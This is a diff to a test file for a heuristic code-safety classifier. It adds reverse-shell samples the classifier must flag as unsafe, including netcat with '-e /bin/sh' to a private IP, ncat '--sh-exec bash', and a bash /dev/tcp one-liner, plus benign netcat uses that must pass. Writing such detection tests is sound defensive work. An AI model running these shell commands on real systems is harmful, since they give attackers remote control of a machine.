@@ -126,6 +126,14 @@ describe("classifyCodeHeuristic: the classes the original missed", () => {
       'import socket, subprocess\nc = socket.socket()\nc.connect(("h", 9))\nwhile True:\n    cmd = c.recv(1024).decode()\n    out = subprocess.run(cmd, shell=True, capture_output=True).stdout\n    c.send(out)',
     ],
     ["R system() with /dev/tcp", "system(\"bash -c 'sh -i >& /dev/tcp/1.2.3.4/9 0>&1'\")"],
+    [
+      "netcat told to run a shell, as an argv list",
+      "import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', '10.0.0.9', '4444'])",
+    ],
+    [
+      "ncat --sh-exec by absolute path, as an argv list",
+      'import subprocess\nsubprocess.run(["/usr/bin/ncat", "--sh-exec", "bash", "-l", "9000"])',
+    ],
   ];
   for (const [label, code] of reverseShells) {
     test(`reverse shell (${label}) is UNSAFE category 7`, () => unsafe(code, 7));
@@ -282,6 +290,9 @@ describe("classifyCodeHeuristic: the classes the original missed", () => {
     safe('import os\nos.environ["OMP_NUM_THREADS"] = "4"');
     safe('source("helpers.R")\nresult <- run_analysis(df)');
     safe('parts = [p for p in path.split("/") if p]\nprint("/".join(parts))');
+    // netcat probing a port, and a "-c" far from any netcat, run no program.
+    safe('import subprocess\nsubprocess.run(["nc", "-z", "db.internal", "5432"], check=True)');
+    safe('args = ["-c", "config.yml"]\nprint("nc")');
   });
 });
 
